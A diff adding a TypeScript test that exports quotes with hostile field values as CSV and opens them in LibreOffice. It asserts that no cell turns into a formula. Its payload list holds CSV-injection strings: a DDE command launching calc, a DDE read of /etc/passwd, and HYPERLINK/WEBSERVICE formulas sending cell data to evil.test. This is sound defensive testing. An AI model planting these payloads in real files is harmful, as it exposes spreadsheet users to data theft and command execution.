@@ -1,0 +1,119 @@
+// Our CSV files in a real spreadsheet: LibreOffice opens them, and not one cell has become a formula (threats B22).
+import { execFile } from "node:child_process";
+import { existsSync } from "node:fs";
+import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { promisify } from "node:util";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { quotes } from "#server/database/schema.ts";
+import { createWorld, type World } from "#test/world.ts";
+
+const spreadsheet = "/usr/bin/soffice";
+const missing = existsSync(spreadsheet) ? "" : "(not run: apt-get install libreoffice-calc)";
+
+const attacks = [
+  "=1+1",
+  "+1+1",
+  "-1+1",
+  "@SUM(1;1)",
+  "=SUM(1,1)",
+  " =1+1",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  "\u00a0=1+1",
+  "\u200b=1+1",
+  "\u0001=1+1",
+  "\ufeff=1+1",
+  "\u3000=1+1",
+  "＝1+1",
+  "=cmd|' /C calc'!A0",
+  '=DDE("soffice";"/etc/passwd";"A1")',
+  '=HYPERLINK("https://evil.test?"&A1,"Invoice")',
+  '=WEBSERVICE("https://evil.test")',
+  '"=1+1"',
+  '"=1+1',
+  'Mill","=1+1',
+  "Mill;=1+1",
+  "Mill\t=1+1",
+  "Mill\r\n=1+1",
+  "Mill\n=1+1\n",
+  "'=1+1",
+  "{=1+1}",
+];
+
+/** How the file may be opened: with a double click, or by a person who ticks what makes formulas likelier. */
+const openings = {
+  "as it comes": "csv",
+  "at commas": "CSV:44,34,76,1,,0,false,true,false",
+  "at commas, semicolons and tabs": "CSV:44/59/9,34,76,1,,0,false,true,false",
+};
+
+let world: World;
+let folder: string;
+const written: string[] = [];
+
+beforeAll(async () => {
+  world = await createWorld();
+  folder = await mkdtemp(join(tmpdir(), "volute-spreadsheet-"));
+  const rows = attacks.map((attack, n) => ({
+    id: `0193a1b2-0000-7000-8000-${String(n).padStart(12, "0")}`,
+    companyId: world.north.id,
+    quoteNumber: `ATTACK-${n}`,
+    userId: world.people.company_admin.id,
+    createdByName: attack,
+    customerName: attack,
+    notes: attack,
+    totalCost: 100,
+  }));
+  await world.database.asCompany(world.north.id, (db) => db.insert(quotes).values(rows));
+  await keep("all.csv", (await world.as("company_admin", "GET", "/api/quotes/export")).text);
+  for (const { id, quoteNumber } of rows)
+    await keep(`${quoteNumber}.csv`, (await world.as("company_admin", "GET", `/api/quotes/${id}/csv`)).text);
+});
+afterAll(async () => {
+  await world.end();
+  await rm(folder, { recursive: true, force: true });
+});
+
+async function keep(name: string, csv: string): Promise<void> {
+  expect(csv, name).toContain("ATTACK-");
+  await writeFile(join(folder, name), csv);
+  written.push(name);
+}
+
+/** Each file as a flat XML spreadsheet, which tells a formula from a text. */
+async function opened(files: string[], how: string): Promise<string[]> {
+  const outcome = await mkdtemp(join(folder, "opened-"));
+  const filter = how.startsWith("CSV:") ? [`--infilter=${how}`] : [];
+  // A profile of its own: LibreOffice hands a second start over to the first.
+  const profile = `-env:UserInstallation=${pathToFileURL(join(outcome, "profile")).href}`;
+  const paths = files.map((name) => join(folder, name));
+  const args = [profile, "--headless", ...filter, "--convert-to", "fods", "--outdir", outcome, ...paths];
+  await promisify(execFile)(spreadsheet, args, { timeout: 300_000 });
+  const made = (await readdir(outcome)).filter((name) => name.endsWith(".fods"));
+  expect(made).toHaveLength(files.length);
+  return Promise.all(made.map((name) => readFile(join(outcome, name), "utf8")));
+}
+
+const formulasIn = (sheet: string) => sheet.match(/table:formula="[^"]*"|<table:dde-link/g) ?? [];
+
+describe.skipIf(missing !== "")(`CSV in a spreadsheet ${missing}`, () => {
+  test("LibreOffice takes such texts for formulas where nothing keeps it from that", async () => {
+    const bare = attacks.map((attack) => `"${attack.replaceAll('"', '""')}"\r\n`).join("");
+    await writeFile(join(folder, "bare.csv"), bare);
+    const [sheet = ""] = await opened(["bare.csv"], openings["as it comes"]);
+    expect(formulasIn(sheet).length).toBeGreaterThanOrEqual(5);
+  });
+
+  test.each(Object.entries(openings))("no quote brings a formula, opened %s", async (_, how) => {
+    const sheets = await opened(written, how);
+    expect(sheets).toHaveLength(1 + attacks.length);
+    for (const sheet of sheets) {
+      expect(sheet).toContain("ATTACK-");
+      expect(formulasIn(sheet)).toEqual([]);
+    }
+  });
+});
